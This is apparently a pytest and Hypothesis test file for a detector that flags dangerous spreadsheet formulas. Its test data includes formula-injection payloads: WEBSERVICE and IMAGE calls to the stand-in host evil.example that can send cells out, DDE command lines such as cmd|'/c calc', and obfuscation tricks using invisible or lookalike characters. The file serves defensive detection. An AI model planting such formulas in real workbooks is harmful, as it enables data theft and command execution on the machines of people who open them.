"""The formula reader, trick by trick, and as properties over formulas made at random."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from hub.tools.policy.findings import Kind
from hub.tools.policy.formula import MAX_FORMULA_CHARACTERS, MAX_FOUND, read_formula
from hub.tools.policy.names import WorkbookNames
from tests.tools.policy.formulas import harmless_expressions, wrapped_calls

NO_NAMES = WorkbookNames({})
URL = '"https://evil.example"'


def kinds(formula: str, *, lenient: bool = False, names: WorkbookNames | None = None) -> list[Kind]:
    return [found.kind for found in read_formula(formula, lenient=lenient, names=names).found]


@pytest.mark.parametrize(
    ("formula", "kind"),
    [
        # case, spaces, signs
        (f"=webSERVICE({URL})", "network"),
        (f"= \n\tWEBSERVICE\u00a0\n( {URL})", "network"),
        (f"=-+@--WEBSERVICE({URL})", "network"),
        # what does not show, what looks alike
        (f"=WEBSERVICE\u200b({URL})", "network"),
        ("=SUM\u200b(A1)", "hidden"),
        (f"=\uff37\uff25\uff22\uff33\uff25\uff32\uff36\uff29\uff23\uff25\uff08{URL}\uff09", "network"),
        ('=\uff02&WEBSERVICE("")&\uff02', "network"),
        ("=\u017fUM(A1)", "unknown_function"),
        # prefixes
        (f"=_xlfn._xlws.IMAGE({URL})", "network"),
        (f"=COM.MICROSOFT.WEBSERVICE({URL})", "network"),
        ("=_xll.LEAK(A1)", "code"),
        ("=_xlfn.NEWER.THAN.US(A1)", "unknown_function"),
        ("=CUBESOMETHINGNEW(A1)", "network"),
        # nested, handed over, bound
        (f"=IF(A1,SUM(1,(WEBSERVICE({URL}))),0)", "network"),
        ("=MAP(A1:A3,IMAGE)", "network"),
        ("=LET(f,WEBSERVICE,f(A1))", "network"),
        ("=LET(WEBSERVICE,1,WEBSERVICE(A1))", "network"),
        ("=LET(leak,1,leak)+LEAK(A1)", "unknown_function"),
        ("=LET(leak,1,LEAK(A1))", "unknown_function"),
        ("=LET(INDIRECT,1,INDIRECT(A1))", "indirect"),
        ("=BYROW(A1:B2,LEAK.BY.ROW)", "name"),
        # strings and quotes
        (f'="a""b"&WEBSERVICE({URL})&""', "network"),
        (f"='it''s'!A1&WEBSERVICE({URL})&'x'!A1", "network"),
        (f"='a\"b'!A1&WEBSERVICE({URL})&'c\"d'!A1", "network"),
        (f'="never closed&WEBSERVICE({URL})', "unreadable"),
        ("=SUM('never closed", "unreadable"),
        ("='Sheet1'", "unreadable"),
        ("='f'(A1)", "unknown_function"),
        # brackets
        (f'=T[a"]&WEBSERVICE({URL})&T["]', "unreadable"),
        ("=T[a']&LEAK(1)&T[b]", "unreadable"),
        (f"=[@a]&WEBSERVICE({URL})", "network"),
        ("=T[never closed", "unreadable"),
        ("=T]a[", "unreadable"),
        ("=Rate.[Price]", "name"),
        ("=SUM(A1", "unreadable"),
        ("=SUM{A1)", "unreadable"),
        ("=A1)", "unreadable"),
        # R1C1, other languages
        ("=R[1]C[1]+LEN(IMAGE(RC[-1]))", "network"),
        (f"=WENN(A1;WEBDIENST({URL});0)", "network"),
        ("={1\\2;3\\4}&ГИПЕРССЫЛКА(A1)", "link"),
        # references that leave
        ("=[book.xlsx]Sheet1!A1", "external"),
        ("=[1]!Rate", "external"),
        ("=[1] Sheet1!A1", "external"),
        ("=[book.xlsx]", "external"),
        ("='C:\\x\\[a.xls]S'!A1", "external"),
        ("='\\\\server\\share\\[a.xls]S'!A1", "external"),
        ("=\\\\server\\share\\a.xls!A1", "external"),
        ("=https://evil.example/a!A1", "external"),
        ("=book.xlsx!Rate", "external"),
        ("='file:///a.ods'#$Sheet1.A1", "external"),
        ("='a'#$Sheet1.A1", "external"),
        ("=a#Sheet1.A1", "external"),
        ("=T[https://evil.example]", "external"),
        ("=Sheet1!LEAK(A1)", "unknown_function"),
        ("=cmd|'/c calc'!A1", "dde"),
        ("=cmd | 'x' ! A1", "dde"),
        ("={cmd|'/c calc'!A1}", "dde"),
        ("={a\\b}", "external"),
        # references as text
        ("=INDIRECT(\"'[x]S'!A1\")", "external"),
        ("=INDIRECT(\"cmd|'x'!A1\")", "dde"),
        ("=INDIRECT(A1)", "indirect"),
        ('=INDIRECT("\'"&A1&"\'!B2")', "indirect"),
        ('=INDIRECT("http:"&A1)', "indirect"),
        ("=INDIRECT(", "indirect"),
        # names
        ("=Rate", "name"),
        ("=XFE1", "name"),
        ("=A1048577", "name"),
        ("=ABC:A1", "name"),
        ("=A1:ABC", "name"),
        ("=A:B:ABC", "name"),
        ("=LET(a,Rate,a)", "name"),
        ("=LET(a,1,Rate)", "name"),
        ("=Sheet1!Rate", "name"),
    ],
)
def test_trick_is_seen_through(formula: str, kind: Kind) -> None:
    assert kind in kinds(formula)
    if kind != "name":
        assert kind in kinds(formula, names=NO_NAMES)


@pytest.mark.parametrize(
    "formula",
    [
        "=LET(f,LAMBDA(x,x+1),f(f(1)))",
        "=LET(x,1,LET(x,2,x)+x)",
        "=LAMBDA([x],IF(ISOMITTED(x),0,x))()",
        "=_xlfn.LET(_xlpm.x,1,_xlpm.x)",
        "=A1:C3 B2:D4",
        "=SUM(A:A,$1:$3,1:1)",
        "=A1:XFD1048576",
        "=$Sheet1.$A$1",
        "='Jan:Dec'!A1",
        "={1,2;3,4}+{1\\2|3\\4}",
        "=T[[#All],[a b]] T[c]",
        "=T[['[x'] l]]+T['#Items]",
        '="https://evil.example"&"[x]S!A1"&"cmd|"&"WEBSERVICE("',
        '=INDIRECT("A"&ROW())+SUM(INDIRECT("B2:B"&C1))',
        "=INDIRECT(\"'My Sheet'!A1\")",
        "=#REF!+#DIV/0!+#WERT!",
        "=-A1%",
        "=",
        "",
    ],
)
def test_harmless_formula_is_let_pass(formula: str) -> None:
    assert kinds(formula) == []


@pytest.mark.parametrize(
    "text",
    [
        "- item one",
        "- don't forget",
        "- a | b",
        "- see https://a.example",
        "-n/a-",
        "-€5",
        "+1 (555) 12",
        "- image",
        "=> go on",
    ],
)
def test_prose_is_let_pass_where_it_need_not_be_a_formula(text: str) -> None:
    assert kinds(text, lenient=True) == []
    assert kinds(text, lenient=True, names=NO_NAMES) == []


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("-Leak", "name"),
        ("+Leak*2", "name"),
        ("@Leak", "name"),
        ("==Leak", "name"),
        ("-WEBSERVICE", "network"),
        ("-a IMAGE(A1)", "network"),
        ("-a LEAK (A1)", "unknown_function"),
        ("-cmd|'x'!A1", "dde"),
        ("- [x.xlsx]S!A1", "external"),
        ('-T[a"]&LEAK(1)', "unreadable"),
        ("-LEAK\u200b(A1)", "unknown_function"),
        ("-IMAG\x00E(A1)", "network"),
        ('-\uff02&IMAG\u200bE("")&\uff02', "network"),
    ],
)
def test_prose_hides_nothing_that_a_sheet_would_do(text: str, kind: Kind) -> None:
    assert kind in kinds(text, lenient=True)


def test_a_name_that_leads_out_is_found_in_prose_too() -> None:
    names = WorkbookNames({"Leak": "=WEBSERVICE(A1)"})
    assert kinds("- Leak Leak", lenient=True, names=names) == ["name"]


def test_what_is_too_long_is_said_to_be() -> None:
    assert kinds("=" + "A" * MAX_FORMULA_CHARACTERS) == ["too_long"]


def test_findings_are_bounded_and_told_once() -> None:
    assert kinds("=IMAGE(A1)+IMAGE(A2)") == ["network"]
    assert len(read_formula("=" + "+".join(f"F{n}X(1)" for n in range(100))).found) == MAX_FOUND
    many = "=" + "&".join(f'INDIRECT("A{n}")' for n in range(1, 100))
    assert kinds(many) == ["indirect"]


def test_reader_does_not_recurse() -> None:
    assert kinds("=" + "(" * 16_000 + "1" + ")" * 16_000) == []
    assert kinds("=" + "SUM(" * 5_000 + "IMAGE(A1)" + ")" * 5_000) == ["network"]
    assert kinds("=T" + "[" * 16_000 + "]" * 16_000, names=NO_NAMES) == []


def test_reasons_say_what_and_why() -> None:
    assert [found.reason for found in read_formula("=WEBSERVICE(A1)+Tax").found] == [
        "WEBSERVICE fetches an address, and can send cells away in it",
        "what the name Tax stands for in the workbook is not known",
    ]


@given(harmless_expressions)
@settings(max_examples=400)
def test_harmless_formulas_made_at_random_are_let_pass(expression: str) -> None:
    assert read_formula(f"={expression}", names=NO_NAMES).found == []
    assert read_formula(expression).found == []


@given(wrapped_calls(), st.sampled_from(("=", "+", "-", "@", "=+", " =", "\t= ", "{=", "\uff1d", "\u200b=")))
@settings(max_examples=600)
def test_a_call_is_found_in_whatever_it_is_wrapped(expression: str, lead: str) -> None:
    assert read_formula(f"{lead}{expression}").found != []


@given(harmless_expressions, wrapped_calls())
@settings(max_examples=300)
def test_a_formula_hides_nothing_after_it_or_before_it(harmless: str, call: str) -> None:
    assert read_formula(f"={harmless}&{call}").found != []
    assert read_formula(f"={call}&{harmless}").found != []
